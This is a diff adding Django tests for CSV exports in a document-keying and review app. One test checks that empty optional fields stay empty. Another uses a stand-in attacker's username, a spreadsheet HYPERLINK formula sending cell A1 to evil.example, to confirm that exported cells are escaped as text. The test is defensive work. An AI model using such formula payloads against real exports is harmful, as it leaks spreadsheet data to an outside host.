@@ -104,3 +104,49 @@ def test_the_auditor_cannot_confirm_their_own_findings_a_second_reviewer_must(cl
     assert done.checked_by == checker and done.auditor == auditor and done.confirmed_count == 1
     doc.result.refresh_from_db()
     assert doc.result.records[0]["new_post"] == "監査役"
+
+
+# --- CSV exports: formulas stay text, empty cells stay empty (hole 11, reliability) -------------------
+
+def csv_cells(response) -> list[list[str]]:
+    import csv
+    import io
+
+    assert response.status_code == 200
+    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+
+
+def test_the_results_csv_leaves_empty_optional_fields_empty(client, people, generated_samples):
+    doc = upload(generated_samples[3])
+    entry = services.keying_claim_next(operator=people["operator1"])
+    records = copy.deepcopy(doc.entries.get(source=Entry.Source.MACHINE).records)
+    index = next(i for i, r in enumerate(records) if r["old_post"])
+    records[index]["old_post"] = ""  # an optional field left empty; the reviewer sides with the operator
+    services.entry_submit(entry_id=entry.pk, operator=people["operator1"], records=records, version=entry.version)
+    task = review_services.review_claim_next(reviewer=people["reviewer1"])
+    decisions = {str(i): {"choice": "second"} for i in range(task.comparison.conflict_count)}
+    review_services.review_submit(task_id=task.pk, reviewer=people["reviewer1"], decisions=decisions,
+                                  version=task.version)
+    client.force_login(people["manager1"])
+    header, *rows = csv_cells(client.get(reverse("results_export", args=["csv"])))
+    exported = dict(zip(header, rows[index]))
+    assert exported["old_post"] == "", "an empty field must export as an empty cell, not a lone apostrophe"
+    assert exported["family_name"] == records[index]["family_name"]
+    assert not [cell for row in rows for cell in row if cell == "'"]
+
+
+def test_report_csvs_keep_names_that_look_like_formulas_as_text(client, people, generated_samples):
+    from django.utils import timezone as tz
+
+    from tests.conftest import make_user
+
+    sneaky = make_user('=HYPERLINK("http://evil.example/?"&A1,"x")', "operator")
+    doc = upload(generated_samples[5])
+    entry = services.keying_claim_next(operator=sneaky)
+    records = doc.entries.get(source=Entry.Source.MACHINE).records
+    services.entry_submit(entry_id=entry.pk, operator=sneaky, records=records, version=entry.version)
+    client.force_login(people["manager1"])
+    rows = csv_cells(client.get(reverse("reports:csv", args=["operators"]), {"period": tz.localdate().strftime("%Y-%m")}))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + sneaky.username in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")], "no cell may start a formula"
